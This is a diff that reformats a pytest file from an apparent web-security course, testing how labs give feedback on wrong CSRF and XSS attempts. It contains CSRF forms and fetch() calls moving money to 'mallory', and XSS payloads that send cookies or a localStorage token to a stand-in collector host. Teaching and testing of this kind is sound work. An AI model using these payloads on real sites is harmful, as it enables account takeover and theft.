@@ -11,10 +11,9 @@ from urllib.parse import quote
 
 import nbformat
 import pytest
-from conftest import require
-
 from authcourse.browserlab.browser import Browser, chromium_path
 from authcourse.vulnerable.browserlabs import VULNERABLE_BROWSER_LABS, VulnerableBrowserLabSession
+from conftest import require
 
 pytestmark = pytest.mark.browser
 ROOT = Path(__file__).resolve().parents[1]
@@ -95,41 +94,105 @@ def form(action: str, method: str = "post", submit: bool = True) -> str:
 
 WRONG: list[tuple[str, str, Callable[[Any], str], str]] = [
     # lab, the mistake, attack, words the bank's `why` must say
-    ("csrf-samesite-none", "the form posts to the attacker's own site",
-     lambda lab: lab.publish("p", form(f"{lab.evil}/lab/attack/transfer")), "not to the bank"),
-    ("csrf-samesite-none", "fetch() instead of a form",
-     lambda lab: lab.publish("p", f"<script>fetch('{lab.bank}/lab/attack/transfer', {{method: 'POST', credentials: "
-                                   "'include', mode: 'no-cors', body: new URLSearchParams({to: 'mallory', amount: '1000'})})"
-                                   "</script>"), "third-party"),
-    ("csrf-samesite-none", "a form nobody submits",
-     lambda lab: lab.publish("p", form(f"{lab.bank}/lab/attack/transfer", submit=False)), "send it by itself"),
-    ("csrf-default-two-minutes", "an <img> to the transfer",
-     lambda lab: lab.publish("p", f'<img src="{lab.bank}/lab/attack/transfer?to=mallory&amount=1000">'),
-     "only POST moves money here"),
-    ("csrf-default-two-minutes", "fetch() instead of a form",
-     lambda lab: lab.publish("p", f"<script>fetch('{lab.bank}/lab/attack/transfer', {{method: 'POST', credentials: "
-                                   "'include', mode: 'no-cors', body: new URLSearchParams({to: 'mallory', amount: '1000'})})"
-                                   "</script>"), "fetch() is not a top-level navigation: a cookie without SameSite"),
-    ("csrf-default-two-minutes", "the form posts to the attacker's own site",
-     lambda lab: lab.publish("p", form(f"{lab.evil}/lab/attack/transfer")), "not to the bank"),
-    ("csrf-lax-get", "an <img> to the GET transfer",
-     lambda lab: lab.publish("p", f'<img src="{lab.bank}/lab/attack/transfer?to=mallory&amount=1000">'),
-     "not a top-level navigation"),
-    ("csrf-lax-get", "a cross-site POST form",
-     lambda lab: lab.publish("p", form(f"{lab.bank}/lab/attack/transfer")), "does not carry a Lax cookie"),
-    ("csrf-lax-get", "fetch() to the GET transfer",
-     lambda lab: lab.publish("p", f"<script>fetch('{lab.bank}/lab/attack/transfer?to=mallory&amount=1', "
-                                   "{credentials: 'include', mode: 'no-cors'})</script>"), "fetch() is not a top-level"),
-    ("xss-localstorage", "document.cookie instead of localStorage",
-     lambda lab: f"{lab.bank}/lab/search?q=" + quote(
-         f"<script>new Image().src = '{lab.collector}?c=' + encodeURIComponent(document.cookie)</script>", safe=""),
-     "not in document.cookie"),
-    ("xss-localstorage", "the script on the attacker's own page",
-     lambda lab: lab.publish("p", f"<script>new Image().src = '{lab.collector}?t=' + "
-                                   "encodeURIComponent(localStorage.getItem('token'))</script>"), "ran on evil.test"),
-    ("xss-localstorage", "the payload not URL-encoded (its + become spaces)",
-     lambda lab: f"{lab.bank}/lab/search?q=<script>new Image().src = '{lab.collector}?t=' + "
-                 "encodeURIComponent(localStorage.getItem('token'))</script>", "URL-encoded"),
+    (
+        "csrf-samesite-none",
+        "the form posts to the attacker's own site",
+        lambda lab: lab.publish("p", form(f"{lab.evil}/lab/attack/transfer")),
+        "not to the bank",
+    ),
+    (
+        "csrf-samesite-none",
+        "fetch() instead of a form",
+        lambda lab: lab.publish(
+            "p",
+            f"<script>fetch('{lab.bank}/lab/attack/transfer', {{method: 'POST', credentials: "
+            "'include', mode: 'no-cors', body: new URLSearchParams({to: 'mallory', amount: '1000'})})"
+            "</script>",
+        ),
+        "third-party",
+    ),
+    (
+        "csrf-samesite-none",
+        "a form nobody submits",
+        lambda lab: lab.publish("p", form(f"{lab.bank}/lab/attack/transfer", submit=False)),
+        "send it by itself",
+    ),
+    (
+        "csrf-default-two-minutes",
+        "an <img> to the transfer",
+        lambda lab: lab.publish("p", f'<img src="{lab.bank}/lab/attack/transfer?to=mallory&amount=1000">'),
+        "only POST moves money here",
+    ),
+    (
+        "csrf-default-two-minutes",
+        "fetch() instead of a form",
+        lambda lab: lab.publish(
+            "p",
+            f"<script>fetch('{lab.bank}/lab/attack/transfer', {{method: 'POST', credentials: "
+            "'include', mode: 'no-cors', body: new URLSearchParams({to: 'mallory', amount: '1000'})})"
+            "</script>",
+        ),
+        "fetch() is not a top-level navigation: a cookie without SameSite",
+    ),
+    (
+        "csrf-default-two-minutes",
+        "the form posts to the attacker's own site",
+        lambda lab: lab.publish("p", form(f"{lab.evil}/lab/attack/transfer")),
+        "not to the bank",
+    ),
+    (
+        "csrf-lax-get",
+        "an <img> to the GET transfer",
+        lambda lab: lab.publish("p", f'<img src="{lab.bank}/lab/attack/transfer?to=mallory&amount=1000">'),
+        "not a top-level navigation",
+    ),
+    (
+        "csrf-lax-get",
+        "a cross-site POST form",
+        lambda lab: lab.publish("p", form(f"{lab.bank}/lab/attack/transfer")),
+        "does not carry a Lax cookie",
+    ),
+    (
+        "csrf-lax-get",
+        "fetch() to the GET transfer",
+        lambda lab: lab.publish(
+            "p",
+            f"<script>fetch('{lab.bank}/lab/attack/transfer?to=mallory&amount=1', "
+            "{credentials: 'include', mode: 'no-cors'})</script>",
+        ),
+        "fetch() is not a top-level",
+    ),
+    (
+        "xss-localstorage",
+        "document.cookie instead of localStorage",
+        lambda lab: (
+            f"{lab.bank}/lab/search?q="
+            + quote(
+                f"<script>new Image().src = '{lab.collector}?c=' + encodeURIComponent(document.cookie)</script>",
+                safe="",
+            )
+        ),
+        "not in document.cookie",
+    ),
+    (
+        "xss-localstorage",
+        "the script on the attacker's own page",
+        lambda lab: lab.publish(
+            "p",
+            f"<script>new Image().src = '{lab.collector}?t=' + "
+            "encodeURIComponent(localStorage.getItem('token'))</script>",
+        ),
+        "ran on evil.test",
+    ),
+    (
+        "xss-localstorage",
+        "the payload not URL-encoded (its + become spaces)",
+        lambda lab: (
+            f"{lab.bank}/lab/search?q=<script>new Image().src = '{lab.collector}?t=' + "
+            "encodeURIComponent(localStorage.getItem('token'))</script>"
+        ),
+        "URL-encoded",
+    ),
 ]
 
 
@@ -152,11 +215,19 @@ def test_every_browser_lab_has_at_least_three_wrong_attempts() -> None:
 def test_the_default_lab_cookie_really_has_no_samesite_and_the_others_say_theirs(browser: Browser) -> None:
     import httpx
 
-    for lab_id, expected in (("csrf-default-two-minutes", None), ("csrf-samesite-none", "None"), ("csrf-lax-get", "Lax")):
+    for lab_id, expected in (
+        ("csrf-default-two-minutes", None),
+        ("csrf-samesite-none", "None"),
+        ("csrf-lax-get", "Lax"),
+    ):
         session = VulnerableBrowserLabSession(lab_id, browser=browser)
         try:
-            response = httpx.post(session.server.url("127.0.0.1", "/login"), json={"email": "bob@example.com",
-                                  "password": "builder"}, verify=False, timeout=10)
+            response = httpx.post(
+                session.server.url("127.0.0.1", "/login"),
+                json={"email": "bob@example.com", "password": "builder"},
+                verify=False,
+                timeout=10,
+            )
             header = response.headers["set-cookie"]
             assert ("samesite" not in header.lower()) if expected is None else f"SameSite={expected}" in header, header
         finally:
